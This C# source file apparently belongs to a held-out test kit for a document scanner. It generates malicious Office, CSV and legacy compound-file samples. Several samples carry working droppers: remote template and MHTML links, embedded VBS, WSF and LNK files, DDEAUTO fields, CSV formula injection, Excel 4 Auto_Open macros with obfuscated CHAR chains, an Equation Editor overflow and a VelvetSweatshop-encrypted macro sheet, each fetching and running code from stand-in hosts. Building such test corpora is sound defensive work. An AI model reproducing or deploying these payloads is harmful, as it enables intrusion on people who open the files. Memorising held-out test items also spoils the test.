using System.Text;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>An Office package without macros that fetches its template, a picture's object or a frame from elsewhere when it is opened.</summary>
public sealed class PackageThatFetchesItsTemplate : SixthRound
{
    private const string Settings = "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>";

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Resume_2026.docx", OoxmlBuilder.Word("<w:p><w:r><w:t>Curriculum vitae. The document is loading, please wait and press Enable Editing.</w:t></w:r></w:p>")
            .Relationship("word/_rels/document.xml.rels", "settings", "settings.xml", isExternal: false)
            .Part("word/settings.xml", Settings)
            .Relationship("word/_rels/settings.xml.rels", "attachedTemplate", "http://192.0.2.33/templates/Resume.dotm")
            .Build());

        yield return ("Einladung.docx", OoxmlBuilder.Word("<w:p><w:r><w:t>Einladung zur Konferenz. Bitte aktivieren Sie die Bearbeitung, um das Programm zu sehen.</w:t></w:r></w:p>")
            .Relationship("word/_rels/document.xml.rels", "settings", "settings.xml", isExternal: false)
            .Part("word/settings.xml", Settings)
            .Relationship("word/_rels/settings.xml.rels", "attachedTemplate", "file://\\\\203.0.113.21\\vorlagen\\normal.dotm")
            .Build());

        yield return ("05-2026-0438.doc", OoxmlBuilder.Word("<w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" Type=\"Link\" ProgID=\"htmlfile\" ShapeID=\"_x0000_i1025\" DrawAspect=\"Content\" r:id=\"rId1\" UpdateMode=\"OnCall\"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r></w:p>")
            .Relationship("word/_rels/document.xml.rels", "oleObject", "mhtml:http://198.51.100.66/side.html!x-usc:http://198.51.100.66/side.html")
            .Build());

        // A name that looks like the maker's in front of the at sign, the host as one number, and the part named and typed unusually.
        yield return ("Tender_annex.docx", OoxmlBuilder.Word("<w:p><w:r><w:t>Annex B to the tender documents.</w:t></w:r></w:p>")
            .Part("word/_rels/document.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings\" Target=\"config.xml\"/><Relationship Id=\"rId7\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/frame\" TargetMode=\"External\" Target=\"HTTPS://schemas.openxmlformats.org%2FofficeDocument@3221226009/annex/a\"/></Relationships>")
            .Part("word/config.xml", Settings.Replace("rId1", "x"))
            .Part("word/_rels/config.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship TargetMode=\"External\" Id=\"x\" Target=\"ht&#116;p://templates.office-cdn.test/t/&#63;i=2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\"/></Relationships>")
            .Build());
    }
}

/// <summary>An Office package with a file in it that runs when the reader clicks it twice.</summary>
public sealed class PackageWithFileToClick : SixthRound
{
    private static byte[] Native(string name, byte[] content) =>
        new OleFileBuilder().Class("", "0003000C-0000-0000-C000-000000000046").Stream("\u0001Ole10Native", OlePackageBuilder.Package(name, content)).Build();

    private static OoxmlBuilder Document(string text) => OoxmlBuilder.Word($"<w:p><w:r><w:t>{text}</w:t></w:r></w:p><w:p><w:r><w:object><o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" Type=\"Embed\" ProgID=\"Package\" ShapeID=\"_x0000_i1025\" DrawAspect=\"Icon\" r:id=\"rId1\"/></w:object></w:r></w:p>")
        .Relationship("word/_rels/document.xml.rels", "oleObject", "embeddings/oleObject1.bin", isExternal: false);

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Complaint.docx", Document("Double-click the icon to view the protected content.")
            .Part("word/embeddings/oleObject1.bin", Native("Complaint.vbs", Dos("""
                Set s = CreateObject("WScript.Shell")
                s.Run "cmd /c powershell -w 1 (New-Object Net.WebClient).DownloadFile('http://203.0.113.5/c.exe','%temp%\c.exe');Start-Process '%temp%\c.exe'", 0
                """))).Build());

        yield return ("Lieferschein.docx", Document("Bitte klicken Sie doppelt auf das Symbol, um den Lieferschein zu sehen.")
            .Part("word/embeddings/oleObject1.bin", Native("Lieferschein.pdf.lnk", new LinkBuilder().To("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe").With("-w hidden -c \"iex(irm http://192.0.2.6/l)\"").Icon("%ProgramFiles%\\Adobe\\Acrobat.exe").Build())).Build());

        yield return ("Price list.pptx", new OoxmlBuilder()
            .Part("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Override PartName=\"/ppt/presentation.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml\"/></Types>")
            .Relationship("_rels/.rels", "officeDocument", "ppt/presentation.xml", isExternal: false)
            .Part("ppt/presentation.xml", "<p:presentation xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId1\"/></p:sldIdLst></p:presentation>")
            .Relationship("ppt/_rels/presentation.xml.rels", "slide", "slides/slide1.xml", isExternal: false)
            .Part("ppt/slides/slide1.xml", "<p:sld xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:rPr><a:hlinkMouseOver r:id=\"rId1\" action=\"ppaction://program\"/></a:rPr><a:t>Loading... please wait</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>")
            .Relationship("ppt/slides/_rels/slide1.xml.rels", "hyperlink", "powershell%20-NoP%20-NonI%20-W%20Hidden%20-Exec%20Bypass%20%22IEX%20(New-Object%20System.Net.WebClient).DownloadString('http://192.0.2.17/c.php')%22")
            .Build());

        // The packed file's name is padded, its kind one that few forbid, and the part has a picture's name.
        yield return ("Statement of work.docx", OoxmlBuilder.Word("<w:p><w:r><w:t>See attachment.</w:t></w:r></w:p>")
            .Relationship("word/_rels/document.xml.rels", "oleObject", "media/image3.emf", isExternal: false)
            .Part("word/media/image3.emf", Native("Statement of work.pdf" + new string(' ', 60) + ".wsf", Dos("""
                <package><job id="a"><script language="VBScript"><![CDATA[
                x = "Mic" & "rosoft.XML" & "HTTP"
                Set h = CreateObject(x) : h.Open "GET", StrReverse("t/3.2.0.291//:ptth"), 0 : h.Send
                ExecuteGlobal h.ResponseText
                ]]></script></job></package>
                """))).Build());
    }
}

/// <summary>A document or table that has another program started through dynamic data exchange.</summary>
public sealed class TableThatStartsAProgram : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Release.docx", OoxmlBuilder.Word("""
            <w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k powershell -NoP -sta -NonI -W Hidden $e=(New-Object System.Net.WebClient).DownloadString('http://192.0.2.60/evil.ps1');powershell -e $e" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>!Unexpected End of Formula</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
            """).Build());

        yield return ("contacts.csv", Dos("""
            Name,E-mail,Phone,Note
            Anna Berg,anna@tradewind.example,0123,regular
            Tom Field,tom@tradewind.example,0456,"=cmd|'/C powershell -w hidden IEX(wget http://203.0.113.36/p.txt)'!A0"
            Ruth Hall,ruth@tradewind.example,0789,regular
            """));

        yield return ("Kalkulation.xlsx", OoxmlBuilder.Excel()
            .Part("xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c mshta.exe http://198.51.100.4/k.hta\"><ddeItems><ddeItem name=\"A0\" advise=\"1\"/></ddeItems></ddeLink></externalLink>")
            .Relationship("xl/_rels/workbook.xml.rels", "externalLink", "externalLinks/externalLink1.xml", isExternal: false)
            .Build());

        // The instruction is told in numbers through QUOTE fields that SET fills; no run holds a word of it.
        yield return ("Protokoll.docx", OoxmlBuilder.Word(Fill("""
            <w:p><w:r><w:t>Protokoll der Sitzung vom 12. November</w:t></w:r></w:p>
            <w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> SET c </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> QUOTE @@1 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>
            <w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> SET d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> QUOTE @@2 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
            <w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> D</w:instrText></w:r><w:r><w:instrText>DE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> REF c </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> REF d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
            """, Codes("C:\\Windows\\System32\\mshta.exe", between: " "), Codes("http://192.0.2.61/p.hta", between: " "))).Build());
    }
}

/// <summary>Excel 4 macros in a package, in their own or in the binary form of cells, that fetch and start something.</summary>
public sealed class MacroSheetThatFetches : SixthRound
{
    private static byte[] Workbook(string state, string name, params string[] formulas) => OoxmlBuilder
        .Excel($"<definedName name=\"{name}\" hidden=\"1\">Macro1!$A$1</definedName>", state)
        .Part("xl/_rels/workbook.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"macrosheets/sheet1.xml\"/></Relationships>")
        .Part("xl/macrosheets/sheet1.xml", "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\" xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
            + string.Concat(formulas.Select((formula, at) => $"<row r=\"{at + 1}\"><c r=\"A{at + 1}\"><f>{formula.Replace("&", "&amp;", StringComparison.Ordinal).Replace("<", "&lt;", StringComparison.Ordinal)}</f></c></row>")) + "</sheetData></xm:macrosheet>")
        .Build();

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Claim.xls", new OleFileBuilder().Stream("Workbook", BiffBuilder.MacroSheet("=EXEC(\"cmd /c powershell -w hidden -c iwr http://192.0.2.19/c.exe -OutFile %temp%\\c.exe; start %temp%\\c.exe\")", visibility: 1)).Build());

        yield return ("Order_form.xlsm", Workbook("hidden", "_xlnm.Auto_Open",
            "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://203.0.113.70/ds/1.gif\",\"C:\\ProgramData\\o.dll\",0,0)",
            "EXEC(\"rundll32 C:\\ProgramData\\o.dll,DllRegisterServer\")",
            "HALT()"));

        yield return ("Überweisung.xls", new OleFileBuilder().Stream("Workbook", BiffBuilder.MacroSheet("=CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCCJ\",\"0\",\"open\",\"mshta.exe\",\"http://198.51.100.12/u.hta\",\"0\",\"0\")", visibility: 2)).Build());

        yield return ("Inventory.xlsm", Workbook("veryHidden", "_xlnm.Auto_Open12",
            "IF(GET.WORKSPACE(19),,CLOSE(TRUE))",
            "IF(GET.WORKSPACE(42),,CLOSE(TRUE))",
            "FORMULA(CHAR(61)&CHAR(69)&CHAR(88)&CHAR(69)&CHAR(67)&CHAR(40)&CHAR(34)&" + string.Join('&', "regsvr32 /s /n /u /i:http://192.0.2.20/i.sct scrobj.dll".Select(letter => $"CHAR({letter + 3}-3)")) + "&CHAR(34)&CHAR(41),A5)",
            "GOTO(A5)",
            "NOW()"));
    }
}

/// <summary>Old compound documents with an object that runs or reaches out: equation, package, link, or a workbook under the password that everybody has.</summary>
public sealed class OldDocumentWithActingObject : SixthRound
{
    private static OleFileBuilder WordFile() => new OleFileBuilder()
        .Class("", "00020906-0000-0000-C000-000000000046")
        .Stream("WordDocument", [0xEC, 0xA5, 0xC1, 0, .. new byte[4092]])
        .Stream("1Table", new byte[4096]);

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        // The font record of an equation, longer than its place, with a command and an address at its end.
        byte[] equation = [0x1C, 0, 0, 0, 2, 0, 0x9E, 0xC4, 0xA9, 0, 0, 0, 0, 0, 0, 0, 0xC8, 0xA7, 0x5C, 0, 0xC4, 0xEE, 0x5B, 0, 0, 0, 0, 0, 3, 1, 1, 3, 0x0A, 0x0A, 1, 8, 0x5A, 0x5A, .. "cmd /c mshta http://192.0.2.40/e &AAAAAAAAAAAA"u8, 0x12, 0x0C, 0x43, 0, .. new byte[32]];
        yield return ("Purchase order.doc", WordFile()
            .Class("ObjectPool/_1234567890", "0002CE02-0000-0000-C000-000000000046")
            .Stream("ObjectPool/_1234567890/Equation Native", equation)
            .Stream("ObjectPool/_1234567890/\u0001CompObj", [1, 0, 0xFE, 0xFF, 3, 10, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, 2, 0xCE, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46, 23, 0, 0, 0, .. "Microsoft Equation 3.0\0"u8])
            .Build());

        yield return ("Mahnung.xls", new OleFileBuilder()
            .Stream("Workbook", Carriers.Workbook())
            .Class("MBD0018D4CE", "0003000C-0000-0000-C000-000000000046")
            .Stream("MBD0018D4CE/\u0001Ole10Native", OlePackageBuilder.Package("Mahnung.exe", Carriers.Program()))
            .Build());

        // An OLE link with a moniker of an address in it, [MS-OLEDS] 2.3.3.
        var address = Encoding.Unicode.GetBytes("http://203.0.113.15/offer/template.hta\0");
        byte[] link = [1, 0, 0, 2, 1, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, .. BitConverter.GetBytes(address.Length + 20), 0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0, 0xAA, 0, 0x4B, 0xA9, 0x0B, .. BitConverter.GetBytes(address.Length), .. address];
        yield return ("Offer.doc", WordFile()
            .Class("ObjectPool/_1700000001", "00000300-0000-0000-C000-000000000046")
            .Stream("ObjectPool/_1700000001/\u0001Ole", link)
            .Stream("ObjectPool/_1700000001/\u0003ObjInfo", [0, 0, 3, 0, 4, 0])
            .Build());

        yield return ("Shipment details.xls", new OleFileBuilder()
            .Stream("Workbook", XlsEncryptor.Encrypt(BiffBuilder.MacroSheet("=EXEC(\"mshta http://198.51.100.98/s.hta\")", visibility: 2), "VelvetSweatshop", isCryptoApi: true))
            .Build());
    }
}
